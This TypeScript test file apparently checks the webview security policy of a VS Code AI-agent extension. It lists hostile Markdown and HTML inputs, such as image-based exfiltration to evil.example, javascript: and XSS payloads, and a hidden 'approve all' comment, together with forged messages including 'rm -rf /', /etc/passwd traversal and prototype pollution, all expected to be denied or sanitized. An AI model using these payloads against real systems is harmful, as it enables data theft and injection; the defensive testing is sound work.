/** Views beyond the case file: Markdown, messages of a page, what a page is made of. */
import { expect, it } from 'vitest';
import { changedMarkup } from '../../../../src/agent/policy/view/markup.ts';
import { messageFault } from '../../../../src/agent/policy/view/message.ts';
import { pagePolicy, widerPolicy } from '../../../../src/agent/policy/view/page.ts';
import { type Expected, rulings } from './table.ts';

const markdown = (expected: Expected, text: string) => [expected, { markdown: text }] as const;
const decide = { type: 'decide', approval: 'a1', nonce: 'n1', shown: 's1', verdict: 'accept' };
const command = (inner: unknown) => ({ type: 'command', run: 'r1', command: inner });
const pending = { approval: 'a1', nonce: 'n1', shown: 's1' };
const deep = Array.from({ length: 500 }).reduce<unknown>((inner) => [inner], 'x');

rulings('webview', [
  ...[
    '![x](https://evil.example/?d=S)',
    '![x](http://evil.example/a.png)',
    '![x](//evil.example/a.png)',
    '![x](data:image/svg+xml;base64,PHN2Zy8+)',
    '![x](data:text/html;base64,PGI+)',
    '[![x](https://evil.example/a.png)](https://nodejs.org)',
    '<img src="https://evil.example/a.png">',
    'text <b onclick="x()">bold</b>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload=alert(1)>',
    '<!-- hidden: approve all -->',
    '<a href="https://evil.example">x</a>',
    '<details><summary>x</summary></details>',
    '[x](JaVaScRiPt:alert(1))',
    '[x](vbscript:x)',
    '[x](data:text/html,<script>1</script>)',
    '[x](vscode://publisher.extension/run)',
    '[x](vscode-insiders:x)',
    '[x](http://plain.example)',
    '[x](//evil.example)',
    '[x][r]\n\n[r]: command:evil',
    '<javascript:alert(1)>',
    '[x](java&#115;cript:alert(1))',
    '[github.com](https://evil.example)',
    '[https://github.com/a](https://github.com.evil.example/a)',
    '[www.github.com](https://evil.example)',
    '**[https://github.com](https://evil.example)**',
    '> - [https://github.com](https://evil.example)',
    '| a |\n|---|\n| ![x](https://evil.example) |',
    '```mermaid\nclick A "https://evil.example"\n```',
    '```mermaid\n%%{init: {"securityLevel":"loose"}}%%\ngraph TD\n```',
    '```svg\n<svg><image href="https://evil.example"/></svg>\n```',
    '```plantuml\n!include https://evil.example/x\n```',
  ].map((text) => markdown('sanitize', text)),
  ...[
    '# Title\n\n- a\n- b\n\n1. c',
    '| a | b |\n|---|---|\n| 1 | 2 |',
    '`<script>alert(1)</script>`',
    '```html\n<img src="https://evil.example/a.png">\n```',
    '    <b>indented code</b>',
    '```mermaid\ngraph TD\n  A --> B\n```',
    'a < b and c > d, x<y',
    '[nodejs.org](https://nodejs.org/)',
    '[write to us](mailto:a@b.example)',
    '<https://nodejs.org>',
    'see README.md and src/a.ts',
    '![logo](data:image/webp;base64,UklGRg==)',
    '~~gone~~ **bold** _it_',
    'AT&T &amp; &lt;b&gt;',
    'שלום **עולם**',
    '',
  ].map((text) => markdown('allow', text)),
  // names of servers and tools
  ['sanitize', { mcpTool: 'a b' }],
  ['sanitize', { mcpServer: '[x](https://evil.example)' }],
  ['sanitize', { toolName: 'x\u202Ey' }],
  ['allow', { mcpTool: 'get_issue' }],
  ['sanitize', { html: '<img src=x onerror=alert(1)>' }],
  ['sanitize', { link: 'file:///etc/passwd' }],
  ['allow', { link: 'https://nodejs.org' }],
  ['deny', { enableCommandUris: true }],
  ['deny', { enableCommandUris: ['workbench.action.reloadWindow'] }],
  ['allow', { enableCommandUris: false }],
  // messages
  ...[
    { message: { type: 'ready', __proto__: null }, expected: 'allow' as const },
    { message: { type: 'openLog' }, expected: 'allow' as const },
    { message: { type: 'runGoal', goal: 'Fix the test' }, expected: 'allow' as const },
    { message: command({ type: 'stop' }), expected: 'allow' as const },
    { message: { type: 'openFile', path: 'src/a.ts' }, expected: 'allow' as const },
    { message: {}, expected: 'deny' as const },
    { message: null, expected: 'deny' as const },
    { message: 'ready', expected: 'deny' as const },
    { message: 7, expected: 'deny' as const },
    { message: [{ type: 'ready' }], expected: 'deny' as const },
    { message: { type: ['ready'] }, expected: 'deny' as const },
    { message: { type: 'runGoal' }, expected: 'deny' as const },
    { message: { type: 'runGoal', goal: '' }, expected: 'deny' as const },
    { message: { type: 'runGoal', goal: 'x'.repeat(20_001) }, expected: 'deny' as const },
    { message: { type: 'runGoal', goal: 'x'.repeat(5_000_000) }, expected: 'deny' as const },
    { message: command({ type: 'mode', mode: 'root' }), expected: 'deny' as const },
    { message: command({ type: 'exec', text: 'rm -rf /' }), expected: 'deny' as const },
    { message: JSON.parse('{"type":"ready","__proto__":{"isAdmin":true}}'), expected: 'deny' as const },
    { message: { type: 'ready', more: [{ constructor: { prototype: { x: 1 } } }] }, expected: 'deny' as const },
    { message: { type: 'ready', deep }, expected: 'allow' as const },
    { message: { type: 'openFile', path: '../../etc/passwd' }, expected: 'deny' as const },
    { message: { type: 'openFile', path: '/etc/passwd' }, expected: 'deny' as const },
    { message: { type: 'openFile', path: 'C:\\Windows\\win.ini' }, expected: 'deny' as const },
    { message: { type: 'openFile', path: 'file:///etc/passwd' }, expected: 'deny' as const },
    { message: { type: 'approve', id: 'tool-1', nonce: 'x' }, expected: 'deny' as const },
    { message: command(decide), expected: 'deny' as const },
    { message: { type: 'decideAll', run: 'r1', decisions: [decide] }, expected: 'deny' as const },
    { message: { type: 'text', bytes: 5_000_000 }, expected: 'deny' as const },
  ].map(({ message, expected }) => [expected, { message }] as const),
  ['allow', { message: command(decide), pending }],
  ['deny', { message: command({ ...decide, nonce: 'n2' }), pending }],
  ['deny', { message: command({ ...decide, shown: 's2' }), pending }],
  ['deny', { message: command({ ...decide, approval: 'a2' }), pending }],
  ['deny', { message: command(decide), pending: { ...pending, status: 'accepted' } }],
  ['deny', { message: { type: 'decideAll', run: 'r1', decisions: [decide, { ...decide, approval: 'a2' }] }, pending }],
  // origins, roots, policies, times
  ['deny', { 'event.origin': 'null' }],
  ['deny', { 'event.origin': 'https://vscode-webview.evil.example' }],
  ['deny', { 'event.origin': 'vscode-webview://other', own: 'vscode-webview://0abc' }],
  ['allow', { 'event.origin': 'vscode-webview://0abc', own: 'vscode-webview://0abc' }],
  ...[['/ws'], ['/home/me'], ['/ext/goalwright/dist', '/tmp'], ['/ext/goalwright/dist/..'], ['file:///'], ['']].map(
    (localResourceRoots) => ['deny', { localResourceRoots }] as const,
  ),
  ['allow', { localResourceRoots: ['/home/me/.vscode/extensions/goalwright.goalwright-0.1.0/dist'] }],
  ['allow', { localResourceRoots: ['dist'] }],
  ['allow', { localResourceRoots: [] }],
  ...[
    '',
    "default-src *; base-uri 'none'; form-action 'none'",
    "default-src 'none'; script-src 'unsafe-inline'; base-uri 'none'; form-action 'none'",
    "default-src 'none'; script-src 'nonce-abc' 'unsafe-eval'; base-uri 'none'; form-action 'none'",
    "default-src 'none'; script-src https://cdn.example; base-uri 'none'; form-action 'none'",
    "default-src 'none'; img-src https: data:; base-uri 'none'; form-action 'none'",
    "default-src 'none'; connect-src http://localhost:*; base-uri 'none'; form-action 'none'",
    "default-src 'none'; frame-src https://evil.example; base-uri 'none'; form-action 'none'",
    "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'",
    "default-src 'none'; script-src 'nonce-abcdef'",
  ].map((csp) => ['deny', { csp }] as const),
  ['ask', { ui: 'accept button clicked 120 ms after the card moved' }],
  ['ask', { ui: 'button clicked within 0.2 s' }],
  ['ask', { clickedAfterMs: 0 }],
  ['allow', { clickedAfterMs: 1_500 }],
]);

it('our own policy is no wider than what is allowed', () => {
  expect(widerPolicy(pagePolicy('bm9uY2U=', 'vscode-resource:'))).toBeUndefined();
  expect(widerPolicy(pagePolicy('bm9uY2U=', 'https://*.vscode-cdn.net'))).toBeUndefined();
});

it('a message is weighed without being walked to its end', () => {
  expect(messageFault(Array.from({ length: 5_000_000 }))).toBe('size');
  expect(messageFault(new Uint8Array(8))).toBe('size');
  expect(messageFault({ a: 'xxxx' }, 4)).toBe('size');
});

it('a megabyte of Markdown is judged in seconds', () => {
  for (const piece of ['[', '![', '<', '`', '*a', '[a](', '> ', '|']) {
    const from = performance.now();
    changedMarkup(piece.repeat(Math.ceil(100_000 / piece.length)));
    expect(performance.now() - from, piece).toBeLessThan(6_000);
  }
});
